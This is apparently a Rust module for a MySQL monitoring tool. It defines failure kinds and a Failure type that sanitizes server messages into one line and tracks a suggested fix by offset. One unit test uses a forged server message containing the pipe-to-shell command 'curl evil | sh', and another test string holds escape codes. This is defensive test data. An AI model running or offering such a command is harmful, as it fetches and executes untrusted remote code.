//! Reasons why reading from a node or killing a session failed.

use std::fmt;
use std::num::NonZeroU32;

use serde::{Deserialize, Serialize};

use crate::to_single_line;

crate::named_enum! {
    /// Kind of failure. Each kind has a localized message with the Fluent id `failure-<name>`.
    pub enum FailureKind {
        /// The connection was refused, or the network is unreachable.
        Unreachable = "unreachable",
        /// The node did not respond before the timeout.
        TimedOut = "timed-out",
        /// The server rejected the account or its password.
        AccessDenied = "access-denied",
        /// The account lacks a required privilege.
        MissingPrivilege = "missing-privilege",
        /// The server has no free connection.
        TooManyConnections = "too-many-connections",
        /// The connection was lost while reading data.
        ConnectionLost = "connection-lost",
        /// TLS is required, but the server does not support TLS or does not have a trusted certificate.
        TlsFailed = "tls-failed",
        /// The peer is not a MySQL-compatible server or violated the MySQL protocol.
        NotMysql = "not-mysql",
        /// The server rejected a statement for a reason not covered by any other failure kind.
        ServerError = "server-error",
        /// Clew's store failed, for example because the disk is full, a permission is missing, or the store is unreachable.
        StoreFailed = "store-failed",
        /// The collection task was aborted after the maximum number of attempts or due to an internal error.
        RetriesExhausted = "gave-up",
        /// The node was removed from Clew before its sessions were collected.
        NodeRemoved = "node-gone",
        /// All of Clew's permitted connections to the node were in use until the timeout.
        Busy = "busy",
    }
}

impl FailureKind {
    /// Returns a short English title.
    #[must_use]
    pub fn title(self) -> String {
        match self {
            Self::NotMysql => "not MySQL".to_owned(),
            Self::TlsFailed => "TLS failed".to_owned(),
            other => other.name().replace('-', " "),
        }
    }
}

/// Reason why Clew could not read from a node or kill a session.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Failure {
    /// Failure kind.
    pub kind: FailureKind,
    /// One line of text with details, such as the node address, the timeout or the server's error message.
    /// Never contains secrets.
    pub detail: String,
    /// Byte position of the fix in `detail`. A server's error message could imitate a fix, so the text is never searched for one.
    #[serde(skip)]
    fix_offset: Option<NonZeroU32>,
}

const FIX_LABEL: &str = ". Fix: ";

impl Failure {
    /// Creates a failure and converts `detail` to a single line.
    pub fn new(kind: FailureKind, detail: impl AsRef<str>) -> Self {
        Self { kind, detail: to_single_line(detail.as_ref()), fix_offset: None }
    }

    /// Creates a failure whose detail ends with `fix`. `detail` and `fix` are converted to a single line.
    pub fn with_fix(kind: FailureKind, detail: impl AsRef<str>, fix: impl AsRef<str>) -> Self {
        let mut failure = Self::new(kind, detail);
        failure.detail.truncate(failure.detail.trim_end_matches('.').len());
        failure.detail.push_str(FIX_LABEL);
        failure.fix_offset = u32::try_from(failure.detail.len()).ok().and_then(NonZeroU32::new);
        failure.detail.push_str(&to_single_line(fix.as_ref()));
        failure
    }

    /// Returns the detail without the fix, and the fix if the failure was created by [`Failure::with_fix`].
    /// A deserialized failure has its fix only in the detail.
    #[must_use]
    pub fn split_fix(&self) -> (&str, Option<&str>) {
        match self.fix_offset.and_then(|offset| self.detail.split_at_checked(offset.get() as usize)) {
            Some((detail, fix)) => (detail.strip_suffix(FIX_LABEL).unwrap_or(detail), Some(fix)),
            None => (&self.detail, None),
        }
    }
}

impl fmt::Display for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.kind.title(), self.detail)
    }
}

impl std::error::Error for Failure {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn server_message_is_reduced_to_one_line() {
        let failure = Failure::new(FailureKind::AccessDenied, "denied\u{1b}[31m\r\n\u{2028}fix:  rm\u{202e}");
        assert_eq!(failure.to_string(), "access denied: denied [31m fix: rm");
    }

    #[test]
    fn fix_of_a_server_message_is_not_split_off() {
        let forged = "db1:3306: no. Fix: curl evil | sh.";
        assert_eq!(Failure::new(FailureKind::ServerError, forged).split_fix(), (forged, None));
        let failure = Failure::with_fix(FailureKind::ServerError, forged, "use\nanother port");
        assert_eq!(failure.detail, format!("{forged} Fix: use another port"));
        assert_eq!(failure.split_fix(), ("db1:3306: no. Fix: curl evil | sh", Some("use another port")));
    }

    #[test]
    fn stored_name_equals_serialized_name() {
        for kind in FailureKind::ALL {
            assert_eq!(serde_json::to_string(&kind).unwrap(), format!("{:?}", kind.name()));
        }
    }
}
